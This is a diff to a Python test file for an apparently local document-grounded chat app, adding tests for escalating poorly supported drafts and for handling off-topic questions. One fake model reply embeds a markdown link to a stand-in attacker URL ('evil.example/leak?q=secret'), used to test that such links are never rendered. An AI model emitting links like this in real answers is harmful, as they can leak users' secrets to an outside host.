@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import importlib.util
+import re
 import sys
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
@@ -367,7 +368,7 @@ async def test_an_image_in_an_answer_is_never_rendered(app_module: ModuleType, c
 
     server.replies["phi-4-mini"] = Reply(content=["Ollama uses 11434 [1]. !", "[logo](http://evil.example/leak?q=secret) ",
                                                   "and [docs](https://ollama.com) for more, as the guide says [1]."])
-    _use(app_module, base_url=server.url)
+    _use(app_module, base_url=server.url, min_draft_support=0.0)  # the draft must stand: its rendering is tested
     await app_module.start()
     await app_module.answer(cl.Message(content="Which port does Ollama use?"))
     streamed = [context.stream_start.call_args.args[0]["output"]] + [c.kwargs["token"] for c in context.send_token.call_args_list]
@@ -462,3 +463,39 @@ async def test_pasted_text_grounds_the_answer_and_is_saved_only_on_request(
     await app_module.save_paste(cl.Action(name="save_paste", payload={"text": "Zebras sleep standing up."}))
     saved = list((corpus / "uploads").iterdir())
     assert len(saved) == 1 and saved[0].name.startswith("pasted-text-")
+
+
+async def test_an_unsupported_draft_is_escalated_and_the_step_says_why(app_module: ModuleType, context: Mock,
+                                                                         server: FakeOpenAIServer) -> None:
+    import chainlit as cl
+
+    server.replies["phi-4-mini"] = Reply(content=["Ollama requires a Kubernetes cluster with three replicas ",
+                                                  "and OAuth tokens kept in Redis [1]."])
+    _use(app_module, base_url=server.url)
+    await app_module.start()
+    await app_module.answer(cl.Message(content="Which port does Ollama use?"))
+    names = _sent_step_names(context)
+    assert any(re.match(r"retrieve · support (\d+)% · ", n) and int(re.findall(r"\d+", n)[0]) >= 40 for n in names)
+    assert any(n.startswith("escalate → gpt-oss-20b: draft poorly supported") for n in names)
+    assert "gpt-oss-20b · auto mode" in _final_content(context)
+
+
+async def test_an_off_topic_question_is_refused_or_answered_labelled(app_module: ModuleType, context: Mock,
+                                                                       server: FakeOpenAIServer) -> None:
+    import chainlit as cl
+
+    _use(app_module, base_url=server.url)
+    await app_module.start()
+    await app_module.answer(cl.Message(content="How do I bake sourdough bread?"))
+    assert any(n.startswith("off topic · ") for n in _sent_step_names(context))
+    content = _final_content(context)
+    assert content.startswith("Your documents do not cover this question") and "OFF\\_TOPIC=general" in content
+    assert server.requests == []  # no model was asked
+
+    server.replies["gpt-oss-20b"] = Reply(content=["Mix flour, water ", "and starter; bake hot."])
+    _use(app_module, base_url=server.url, off_topic="general")
+    await app_module.start()
+    await app_module.answer(cl.Message(content="How do I bake sourdough bread?"))
+    content = _final_content(context)
+    assert content.startswith("**Not from your documents** (general knowledge):")
+    assert "Mix flour, water and starter; bake hot." in content and "gpt-oss-20b" in content
